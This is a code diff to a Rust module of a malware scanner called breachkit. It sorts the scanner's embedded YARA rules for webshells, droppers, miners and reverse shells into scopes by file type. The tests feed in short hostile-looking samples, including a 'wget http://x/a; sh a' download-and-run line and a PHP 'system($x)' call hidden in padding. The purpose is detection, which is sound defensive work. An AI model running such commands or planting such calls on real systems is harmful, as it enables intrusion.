@@ -1,31 +1,108 @@
-//! The YARA rules: breachkit's own (`rules/yara/*.yar`, embedded in the binary) and
-//! the user's (`--rules FILE|DIR`), compiled once into one rule set. Each rule's
+//! The YARA rules: breachkit's own (`rules/yara/<scope>/*.yar`, embedded in the
+//! binary) and the user's (`--rules FILE|DIR`), each compiled once. Each rule's
 //! meta says its family, score and description; user rules without them count as
 //! `scan.user-rule` with [`USER_SCORE`].
+//!
+//! A built-in rule runs only on the files its [`Scope`] says it can concern
+//! (`rules/yara/README.md`); a file is searched once, with the rule set compiled for
+//! its scope. User rules run on every file.
 
 use crate::ScanError;
 use crate::family::Family;
-use crate::heuristics;
+use crate::heuristics::{self, Kind};
 use std::path::{Path, PathBuf};
 
-/// The embedded rule files, by name.
-pub const BUILTIN: &[(&str, &str)] = &[
+/// Which files a built-in rule runs on. The scopes nest: a file of one scope is
+/// scanned with the rules of that scope and of the scopes before it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Scope {
+    /// Every file, data included.
+    Any,
+    /// Every file that is not data (an image, binary data other than a program, a
+    /// JSON document): what an interpreter or a browser may run.
+    Script,
+    /// Files with a PHP open tag: what PHP may run.
+    Php,
+}
+
+impl Scope {
+    pub const ALL: [Scope; 3] = [Scope::Any, Scope::Script, Scope::Php];
+
+    /// The scope of a file of this kind, name and content.
+    pub(crate) fn of(path: &str, kind: Kind, bytes: &[u8]) -> Scope {
+        if memchr::memmem::find(bytes, b"<?").is_some() {
+            Scope::Php
+        } else if matches!(kind, Kind::Image | Kind::Binary) || is_json_document(path, bytes) {
+            Scope::Any
+        } else {
+            Scope::Script
+        }
+    }
+}
+
+/// A `.json` file that starts like a JSON object or array.
+fn is_json_document(path: &str, bytes: &[u8]) -> bool {
+    heuristics::extension_of(path) == "json"
+        && matches!(bytes.trim_ascii_start().first(), Some(b'{' | b'['))
+}
+
+/// The embedded rule files: scope, name, text.
+pub const BUILTIN: &[(Scope, &str, &str)] = &[
     (
-        "php_webshell.yar",
-        include_str!("../../../rules/yara/php_webshell.yar"),
+        Scope::Any,
+        "any/miner.yar",
+        include_str!("../../../rules/yara/any/miner.yar"),
     ),
     (
-        "php_loader.yar",
-        include_str!("../../../rules/yara/php_loader.yar"),
+        Scope::Script,
+        "script/bot.yar",
+        include_str!("../../../rules/yara/script/bot.yar"),
     ),
-    ("mailer.yar", include_str!("../../../rules/yara/mailer.yar")),
-    ("bot.yar", include_str!("../../../rules/yara/bot.yar")),
-    ("miner.yar", include_str!("../../../rules/yara/miner.yar")),
     (
-        "dropper.yar",
-        include_str!("../../../rules/yara/dropper.yar"),
+        Scope::Script,
+        "script/dropper.yar",
+        include_str!("../../../rules/yara/script/dropper.yar"),
     ),
-    ("shell.yar", include_str!("../../../rules/yara/shell.yar")),
+    (
+        Scope::Script,
+        "script/js.yar",
+        include_str!("../../../rules/yara/script/js.yar"),
+    ),
+    (
+        Scope::Script,
+        "script/mailer.yar",
+        include_str!("../../../rules/yara/script/mailer.yar"),
+    ),
+    (
+        Scope::Script,
+        "script/miner.yar",
+        include_str!("../../../rules/yara/script/miner.yar"),
+    ),
+    (
+        Scope::Script,
+        "script/shell.yar",
+        include_str!("../../../rules/yara/script/shell.yar"),
+    ),
+    (
+        Scope::Php,
+        "php/dropper.yar",
+        include_str!("../../../rules/yara/php/dropper.yar"),
+    ),
+    (
+        Scope::Php,
+        "php/loader.yar",
+        include_str!("../../../rules/yara/php/loader.yar"),
+    ),
+    (
+        Scope::Php,
+        "php/mailer.yar",
+        include_str!("../../../rules/yara/php/mailer.yar"),
+    ),
+    (
+        Scope::Php,
+        "php/webshell.yar",
+        include_str!("../../../rules/yara/php/webshell.yar"),
+    ),
 ];
 
 const BUILTIN_NAMESPACE: &str = "breachkit";
@@ -35,36 +112,56 @@ pub(crate) const USER_SCORE: u32 = 75;
 /// Score of a built-in rule without a `score` meta (none ships without one).
 const DEFAULT_SCORE: u32 = 50;
 
-/// Compiles the built-in rules and the user's rule files (or every `*.yar` and
-/// `*.yara` under a directory given).
-pub(crate) fn compile(user: &[PathBuf]) -> Result<yara_x::Rules, ScanError> {
-    let mut compiler = yara_x::Compiler::new();
-    compiler.colorize_errors(false);
-    compiler.new_namespace(BUILTIN_NAMESPACE);
-    for (name, src) in BUILTIN {
-        add(&mut compiler, src, name)?;
-    }
-    add(
-        &mut compiler,
-        &heuristics::words_rule(),
-        "(the heuristics' words)",
-    )?;
-    if !user.is_empty() {
+/// The compiled rules.
+pub(crate) struct RuleSets {
+    /// For each scope (indexed by `Scope as usize`): the built-in rules of that
+    /// scope and the scopes before it, and the heuristics' words.
+    pub builtin: [yara_x::Rules; 3],
+    pub user: Option<yara_x::Rules>,
+}
+
+/// Compiles the built-in rules for each scope, and the user's rule files (or every
+/// `*.yar` and `*.yara` under a directory given).
+pub(crate) fn compile(user: &[PathBuf]) -> Result<RuleSets, ScanError> {
+    let builtin = Scope::ALL.map(compile_builtin);
+    let [any, script, php] = builtin;
+    let builtin = [any?, script?, php?];
+    let user = if user.is_empty() {
+        None
+    } else {
+        let mut compiler = yara_x::Compiler::new();
+        compiler.colorize_errors(false);
         compiler.new_namespace(USER_NAMESPACE);
         for path in user {
-            let files = rule_files(path)?;
-            for file in files {
+            for file in rule_files(path)? {
                 let src = std::fs::read_to_string(&file).map_err(|e| ScanError::read(&file, e))?;
                 add(&mut compiler, &src, &breachkit_finding::escape_path(&file))?;
             }
+        }
+        Some(compiler.build())
+    };
+    Ok(RuleSets { builtin, user })
+}
+
+/// The built-in rules a file of `scope` is scanned with.
+fn compile_builtin(scope: Scope) -> Result<yara_x::Rules, ScanError> {
+    let mut compiler = yara_x::Compiler::new();
+    compiler.colorize_errors(false);
+    compiler.new_namespace(BUILTIN_NAMESPACE);
+    for (_, name, src) in BUILTIN.iter().filter(|(s, _, _)| *s <= scope) {
+        add(&mut compiler, src, name)?;
+    }
+    for words in Scope::ALL.iter().filter(|s| **s <= scope) {
+        if let Some(rule) = heuristics::words_rule(*words) {
+            add(&mut compiler, &rule, "(the heuristics' words)")?;
         }
     }
     Ok(compiler.build())
 }
 
-/// The built-in private rule that finds the heuristics' words.
+/// A built-in private rule that finds the heuristics' words.
 pub(crate) fn is_words_rule(rule: &yara_x::Rule) -> bool {
-    rule.namespace() == BUILTIN_NAMESPACE && rule.identifier() == heuristics::WORDS_RULE
+    rule.namespace() == BUILTIN_NAMESPACE && heuristics::is_words_rule(rule.identifier())
 }
 
 fn add(compiler: &mut yara_x::Compiler, src: &str, origin: &str) -> Result<(), ScanError> {
@@ -151,8 +248,13 @@ mod tests {
     #[test]
     fn builtin_rules_give_no_compiler_warnings() {
         let mut compiler = yara_x::Compiler::new();
-        for (name, src) in BUILTIN {
+        for (_, name, src) in BUILTIN {
             add(&mut compiler, src, name).unwrap();
+        }
+        for scope in Scope::ALL {
+            if let Some(rule) = heuristics::words_rule(scope) {
+                add(&mut compiler, &rule, "words").unwrap();
+            }
         }
         let warnings: Vec<String> = compiler.warnings().iter().map(|w| w.to_string()).collect();
         assert!(warnings.is_empty(), "{}", warnings.join("\n"));
@@ -162,7 +264,10 @@ mod tests {
     fn builtin_rules_compile_with_meta() {
         let rules = compile(&[]).unwrap();
         let mut n = 0;
-        for rule in rules.iter().filter(|r| !is_words_rule(r)) {
+        for rule in rules.builtin[Scope::Php as usize]
+            .iter()
+            .filter(|r| !is_words_rule(r))
+        {
             n += 1;
             let mut family = false;
             let mut score = false;
@@ -184,6 +289,57 @@ mod tests {
         assert!(n >= 30, "{n} rules");
     }
 
+    /// Each scope's set has the rules of its own directory and the ones before.
+    #[test]
+    fn scopes_nest() {
+        let rules = compile(&[]).unwrap();
+        let names = |scope: Scope| -> Vec<String> {
+            let mut v: Vec<String> = rules.builtin[scope as usize]
+                .iter()
+                .filter(|r| !is_words_rule(r))
+                .map(|r| r.identifier().to_string())
+                .collect();
+            v.sort();
+            v
+        };
+        let (any, script, php) = (names(Scope::Any), names(Scope::Script), names(Scope::Php));
+        assert!(any.contains(&"miner_config".to_string()));
+        assert!(!any.contains(&"shell_reverse_shell".to_string()));
+        assert!(script.contains(&"shell_reverse_shell".to_string()));
+        assert!(!script.contains(&"php_request_to_exec".to_string()));
+        assert!(any.iter().all(|r| script.contains(r)));
+        assert!(script.iter().all(|r| php.contains(r)));
+        assert!(php.contains(&"php_request_to_exec".to_string()));
+    }
+
+    #[test]
+    fn scope_of_a_file() {
+        let of = |path: &str, bytes: &[u8]| Scope::of(path, Kind::of(path, bytes), bytes);
+        assert_eq!(of("/w/a.php", b"<?php echo 1;"), Scope::Php);
+        // An open tag anywhere, in any file: PHP may include it.
+        assert_eq!(
+            of("/w/u/fav.ico", b"\x00\x00\x01\x00\x01\x00junk<?php x();"),
+            Scope::Php
+        );
+        assert_eq!(
+            of(
+                "/w/notes.txt",
+                &[b"a".repeat(9000), b"<? system($x);".to_vec()].concat()
+            ),
+            Scope::Php
+        );
+        // A .php file without an open tag is plain text to PHP.
+        assert_eq!(of("/w/page.php", b"<html>hello</html>"), Scope::Script);
+        assert_eq!(of("/tmp/run", b"#!/bin/sh\nwget x"), Scope::Script);
+        assert_eq!(of("/tmp/.x/m", b"\x7fELF\x02\x01\x00\x00"), Scope::Script);
+        assert_eq!(of("/w/i18n/en.json", b"  {\"a\": \"b\"}"), Scope::Any);
+        assert_eq!(of("/w/list.json", b"[1, 2]"), Scope::Any);
+        // Named .json but not shaped like it: a script in disguise.
+        assert_eq!(of("/tmp/c.json", b"wget http://x/a; sh a"), Scope::Script);
+        assert_eq!(of("/w/a.png", b"\x89PNG\r\n\x1a\nIHDR"), Scope::Any);
+        assert_eq!(of("/w/a.mo", b"\xde\x12\x04\x95\x00\x00"), Scope::Any);
+    }
+
     #[test]
     fn user_rules_from_dirs_and_errors() {
         let t = tempfile::tempdir().unwrap();
@@ -197,7 +353,10 @@ mod tests {
         assert!(compile(&[t.path().to_path_buf()]).is_ok());
         let bad = t.path().join("bad.yar");
         std::fs::write(&bad, "rule broken { condition: $nope }").unwrap();
-        let err = compile(&[bad]).unwrap_err().to_string();
+        let Err(err) = compile(&[bad]) else {
+            panic!("a broken rule file compiled")
+        };
+        let err = err.to_string();
         assert!(err.contains("bad.yar"), "{err}");
         let empty = tempfile::tempdir().unwrap();
         assert!(matches!(
